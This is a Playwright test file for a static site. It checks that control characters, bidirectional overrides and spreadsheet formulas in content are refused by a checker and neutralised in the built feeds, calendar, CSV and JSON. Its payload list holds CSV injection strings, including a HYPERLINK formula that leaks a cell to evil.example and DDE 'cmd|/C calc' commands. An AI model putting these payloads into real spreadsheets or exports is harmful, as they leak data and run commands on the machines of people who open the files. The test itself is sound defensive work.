/**
 * Control characters, bidirectional overrides and spreadsheet formulas in
 * every text field: `npm run check` refuses them field by field, and a site
 * built from them anyway (a bare `astro build`, as a host that skips the
 * check would run it) still has feeds a real XML parser accepts, a calendar
 * with no control bytes, a spreadsheet no cell of which starts a formula, and
 * data files that are JSON.
 */
import fs from 'node:fs';
import path from 'node:path';
import { expect, test } from '@playwright/test';
import { parse as parseCsv } from 'csv-parse/sync';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import ICAL from 'ical.js';
import { checkContent } from '../../src/check/check.ts';
import { writeHostileContent } from '../fixtures/xss/hostile-content.ts';
import { buildSite, tempDir } from './support/build.ts';

const PAYLOADS = [
  { why: 'terminal escape sequences and a bell', payload: 'Talks \u001b[31mred\u001b[0m \u001b]0;title\u0007 end' },
  { why: 'NUL, U+0001, backspace and DEL', payload: 'Talks \u0000 one \u0001 two \u0008 three \u007f' },
  { why: 'C1 controls: next line and a control sequence introducer', payload: 'Talks \u0085 next \u009b31m csi' },
  { why: 'bidirectional overrides and isolates', payload: 'Talks \u202egnirts desrever\u202c and \u2066isolated\u2069' },
  { why: 'a formula that opens a link', payload: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")' },
  { why: 'a formula starting with plus', payload: "+cmd|'/C calc'!A0" },
  { why: 'a formula starting with minus', payload: "-2+3+cmd|'/C calc'!A0" },
  { why: 'a formula starting with at', payload: "@SUM(1+1)*cmd|'/C calc'!A0" },
];

/** Any character XML 1.0 forbids, or that acts on a terminal or reorders text. */
const UNWANTED = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

test.describe('a site built from control characters and formulas in every field', () => {
  let dist = '';
  let contentDir = '';
  const read = (file: string) => fs.readFileSync(path.join(dist, file), 'utf8');

  test.beforeAll(() => {
    test.setTimeout(180_000);
    contentDir = path.join(tempDir('hostile-text'), 'content');
    writeHostileContent(contentDir, PAYLOADS, []);
    dist = buildSite(contentDir);
  });

  test.afterAll(() => {
    fs.rmSync(path.dirname(dist), { recursive: true, force: true });
    fs.rmSync(path.dirname(contentDir), { recursive: true, force: true });
  });

  test('is refused by npm run check, in every file that holds such a character', () => {
    const problems = checkContent(contentDir).filter((p) => p.rule === 'control-character');
    const files = new Set(problems.map((p) => path.basename(p.file)));
    // Four payloads with such characters, each in its article, round, participant, venue and outcome.
    expect(files.size).toBe(4 * 5);
    for (const p of problems) expect(p.message).toMatch(/^an invisible (control|bidirectional formatting) character \(U\+[0-9A-F]{4}/);
  });

  for (const feed of ['feeds/rounds.xml', 'feeds/sources.xml']) {
    test(`${feed} is well-formed XML a real parser reads, with none of those characters`, () => {
      const xml = read(feed);
      expect(XMLValidator.validate(xml)).toBe(true);
      const items = new XMLParser().parse(xml).rss.channel.item as { title: string }[];
      expect(items).toHaveLength(PAYLOADS.length);
      expect(xml).not.toMatch(UNWANTED);
    });
  }

  test('the calendar parses, and holds no control bytes', () => {
    const text = read('data/rounds.ics');
    const events = new ICAL.Component(ICAL.parse(text)).getAllSubcomponents('vevent');
    expect(events).toHaveLength(PAYLOADS.length);
    expect(text.replace(/\r\n/g, '').replace(/\t/g, '')).not.toMatch(UNWANTED);
  });

  test('no cell of the spreadsheet starts a formula; the formulas are kept as text', () => {
    const rows = parseCsv(read('data/rounds.csv'), { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(PAYLOADS.length);
    const formulas = rows.flatMap((row) => Object.entries(row).filter(([, cell]) => /^[=+\-@\t\r]/.test(cell)).map(([column, cell]) => `${column}: ${cell}`));
    expect(formulas).toEqual([]);
    expect(rows.map((r) => r.city)).toContain(`'${PAYLOADS[4]!.payload}`);
  });

  test('the data files are JSON', () => {
    for (const name of ['rounds', 'participants', 'venues', 'outcomes', 'sources']) expect(() => JSON.parse(read(`data/${name}.json`)), name).not.toThrow();
  });
});
